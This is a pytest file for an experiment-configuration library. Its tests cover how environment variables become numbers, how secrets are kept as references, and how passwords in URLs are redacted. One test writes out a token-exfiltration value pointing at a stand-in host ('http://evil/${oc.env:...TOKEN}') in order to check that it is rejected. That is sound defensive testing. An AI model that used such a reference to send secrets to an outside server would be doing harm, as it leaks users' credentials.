"""Numbers come from the environment as numbers; secrets are stored as references and never shown."""

import json

import pytest

from dlexp.build.node import build
from dlexp.config import trust
from dlexp.config.resolve import resolve, to_yaml
from dlexp.config.source.environment import redact, redact_all
from dlexp.config.space import read_space
from dlexp.error import ConfigError, RunError
from dlexp.tracking.store import choose

URI = "http://me:${oc.env:DLEXP_TEST_TOKEN}@host:5000"


@pytest.fixture
def token(monkeypatch):
    monkeypatch.setenv("DLEXP_TEST_TOKEN", "s3cr3t@/")
    return "s3cr3t@/"


@pytest.mark.parametrize(
    ("key", "text", "value"),
    [
        ("optimizer.lr", "0.25", 0.25),
        ("optimizer.lr", "1e-3", 0.001),
        ("trainer.epochs", "7", 7),
        ("model.widths", "[3, 4]", [3, 4]),
        ("optimizer.biases", "true", True),
    ],
)
def test_numbers_of_the_environment_are_converted(monkeypatch, key, text, value):
    monkeypatch.setenv("DLEXP_TEST_VALUE", text)
    overrides = ["optimizer.weight_decay=0.1", f"{key}=${{oc.env:DLEXP_TEST_VALUE}}"]
    group, name = key.split(".")
    assert resolve(overrides).config[group][name] == value
    space, _ = read_space([*overrides, "seed=1,2"])
    assert space.compose({}, 1).config[group][name] == value


@pytest.mark.parametrize(("text", "shown"), [("abc", "abc"), ("-1", "'-1'"), ("", "''")])
def test_what_the_environment_has_wrong_is_told(monkeypatch, text, shown):
    monkeypatch.setenv("DLEXP_TEST_VALUE", text)
    with pytest.raises(ConfigError) as caught:
        resolve(["optimizer.lr=${oc.env:DLEXP_TEST_VALUE}"])
    assert str(caught.value) == f"optimizer.lr: got {shown}; a number > 0 is needed"


def test_a_secret_is_stored_as_its_reference_and_resolved_at_use(token, tmp_path):
    composed = resolve([f"tracking.uri={URI}"])
    assert composed.config["tracking"]["uri"] == URI
    assert token not in to_yaml(composed.config)
    assert choose(tmp_path, URI).uri == f"http://me:{token}@host:5000"
    space, searched = read_space([f"tracking.uri={URI}", "seed=1,2"])
    assert searched.config["tracking"]["uri"] == URI
    assert space.compose({}, 2).config["tracking"]["uri"] == URI


def test_a_secret_by_way_of_another_key_is_a_reference_too(token, tmp_path):
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "e.yaml").write_text(
        "# @package _global_\ntracking:\n  uri: http://x:${tracking.experiment}@h\n"
        "  experiment: ${oc.env:DLEXP_TEST_TOKEN}\n"
    )
    tracking = resolve(["experiment=e"], tmp_path).config["tracking"]
    assert tracking["uri"] == "http://x:${oc.env:DLEXP_TEST_TOKEN}@h"
    assert token not in str(tracking)


def test_what_is_built_has_the_secret_itself(token):
    node = {"_target_": "dlexp.tracking.mlflow.MLflow", "uri": URI, "experiment": None, "weights": False}
    assert build(node).uri == f"http://me:{token}@host:5000"


def test_other_variables_are_resolved(monkeypatch):
    monkeypatch.setenv("DLEXP_TEST_FOLDER", "/data")
    assert resolve(["runs_dir=${oc.env:DLEXP_TEST_FOLDER}/runs"]).config["runs_dir"] == "/data/runs"


def test_a_run_folder_reads_only_what_the_user_typed(token, monkeypatch, tmp_path):
    """The attack: a folder from elsewhere has a token sent to its own server."""
    resolve([f"tracking.uri={URI}"])
    for known in (True, False):  # the second time, in another process
        trust.require_references({"tracking": {"uri": URI}}, "7abc")
        with pytest.raises(
            RunError, match=r"7abc: reads the environment by 'http://evil/\$\{oc.env:DLEXP_TEST_TOKEN\}'"
        ):
            trust.require_references({"tracking": {"uri": "http://evil/${oc.env:DLEXP_TEST_TOKEN}"}}, "7abc")
        with pytest.raises(RunError, match=r"tracking\.uri: reads the environment"):
            choose(tmp_path, "http://evil/${oc.env:DLEXP_TEST_TOKEN}")
        assert known or not trust._typed
        monkeypatch.setattr(trust, "_typed", set())
    with trust.words_of("7abc"), pytest.raises(RunError, match="7abc: reads the environment"):
        resolve(["tracking.experiment=${oc.env:HOME}"])
    assert token not in json.dumps(trust._read())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("http://me:pw@h:5000", "http://me:***@h:5000"),
        ("postgresql://me:p@ss@h/db", "postgresql://me:***@h/db"),
        ("mysql+pymysql://me:p/w@h", "mysql+pymysql://me:***@h"),
        ("https://ghp_x@h/x", "https://***@h/x"),
        ("http://h/?token=abc&x=1", "http://h/?token=***&x=1"),
        ("no answer from http://a:b@h: refused", "no answer from http://a:***@h: refused"),
        (URI, URI),
        ("http://h:5000/a@b", "http://h:5000/a@b"),
        ("http://h:5000 and x@y", "http://h:5000 and x@y"),
        ("sqlite:///a:b@c", "sqlite:///a:b@c"),
        ("git@github.com:a/b", "git@github.com:a/b"),
    ],
)
def test_passwords_of_addresses_are_hidden(text, expected):
    assert redact(text) == expected
    assert redact_all({"a": [text, 1]}) == {"a": [expected, 1]}


def test_secrets_that_were_used_are_hidden_everywhere(token):
    resolve([f"tracking.uri={URI}"])
    assert redact(f"no answer from {token}") == "no answer from ${oc.env:DLEXP_TEST_TOKEN}"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("foo:///me:pw@x/y", "foo:///me:***@x/y"),
        ("foo://me:pw@x/y", "foo://me:***@x/y"),
        ("foo://:pw@x", "foo://:***@x"),
        ("foo:////me:p@w@x", "foo:////me:***@x"),
        ("postgresql+psycopg://me:pw@h/db", "postgresql+psycopg://me:***@h/db"),
        ("x-y.z://me:pw@h", "x-y.z://me:***@h"),
        ("https://token@h/x", "https://***@h/x"),
        ("sqlite:////home/a:b@c.db", "sqlite:////home/a:b@c.db"),
        ("sqlite:///a:b@c.db", "sqlite:///a:b@c.db"),
        ("file:///a:b@c", "file:///a:b@c"),
        ("http://h:5000/a@b", "http://h:5000/a@b"),
        ("foo:///x/y", "foo:///x/y"),
    ],
)
def test_the_password_of_any_address_is_hidden(text, shown):
    assert redact(text) == shown
    assert redact(f"no answer from {text} today") == f"no answer from {shown} today"


def test_a_secret_is_hidden_as_long_as_the_environment_holds_it(monkeypatch):
    monkeypatch.setenv("DLEXP_TEST_TOKEN", "hunter22")
    resolve([f"tracking.uri={URI}"])
    assert redact("got hunter22") == "got ${oc.env:DLEXP_TEST_TOKEN}"
    monkeypatch.setenv("DLEXP_TEST_TOKEN", "another")
    assert redact("got hunter22 and another") == "got hunter22 and ${oc.env:DLEXP_TEST_TOKEN}"
    monkeypatch.delenv("DLEXP_TEST_TOKEN")
    assert redact("got another") == "got another"
